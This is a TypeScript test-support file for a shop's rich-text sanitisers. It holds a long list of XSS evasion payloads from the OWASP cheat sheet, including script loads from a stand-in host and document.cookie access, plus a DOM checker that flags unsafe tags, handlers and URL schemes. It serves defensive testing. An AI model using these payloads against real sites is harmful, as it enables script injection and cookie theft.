import { RICH_TEXT_TAGS } from '@cartlift/domain';

/**
 * XSS vectors from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the three the issue
 * found passing the drawer's old regular-expression filter. Both sanitisers (gateway at save time, drawer at render)
 * are tested against every one of them, and the reliability suite sends them as injected markup.
 */
export const XSS_VECTORS: readonly string[] = [
  // the three that passed the old filter
  '<img/src=x/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  // basic and locator
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=https://xss.example/xss.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=https://xss.example/scriptlet.html <',
  "\\\";alert('XSS');//",
  "</script><script>alert('XSS');</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="background-image: url(&#1;javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=">" \'\' SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT a=">\'>" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
  '<A HREF="javascript:document.location=\'https://www.example.com/\'">XSS</A>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">colon entity</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<b style="color:red" onclick="alert(1)">bold</b>',
  '<span style="background:url(javascript:alert(1))">bg</span>',
  '<template><img src=x onerror=alert(1)></template>',
];

/** Elements either sanitiser may leave in place: the domain's allowlist. */
export const SAFE_TAGS: ReadonlySet<string> = new Set(RICH_TEXT_TAGS);

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'background',
  'xlink:href',
  'data',
  'dynsrc',
  'lowsrc',
]);
const SAFE_URL = /^(https?:|mailto:|tel:|#|\/(?!\/))/;

/** The little of the DOM the check needs (so node-side tests can type-check it without the DOM library). */
interface ParsedElement {
  tagName: string;
  attributes: ArrayLike<{ name: string; value: string }>;
  children: ArrayLike<ParsedElement>;
}
interface HtmlParser {
  createElement(tag: 'template'): { innerHTML: string; content: { children: ArrayLike<ParsedElement> } };
}

/**
 * What is still dangerous in html once a browser parses it (the document gives the parser: jsdom or a real page):
 * any element outside SAFE_TAGS, any on* attribute, a URL attribute whose decoded value is not http(s)/mailto/tel or
 * relative, a style with url()/expression(). An empty list means the markup cannot run script.
 */
export function unsafeParts(html: string, doc: HtmlParser): string[] {
  const template = doc.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  const visit = (el: ParsedElement): void => {
    const tag = el.tagName.toLowerCase();
    if (!SAFE_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      // The parser has decoded entities; drop what URL parsers ignore (controls, whitespace) before the scheme check.
      const value = Array.from(attr.value)
        .filter((ch) => ch.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (URL_ATTRIBUTES.has(name) && !SAFE_URL.test(value)) found.push(`${tag}[${name}=${value}]`);
      if (name === 'style' && (value.includes('url(') || value.includes('expression') || value.includes('\\')))
        found.push(`${tag}[style=${value}]`);
    }
    for (const child of Array.from(el.children)) visit(child);
  };
  for (const child of Array.from(template.content.children)) visit(child);
  return found;
}
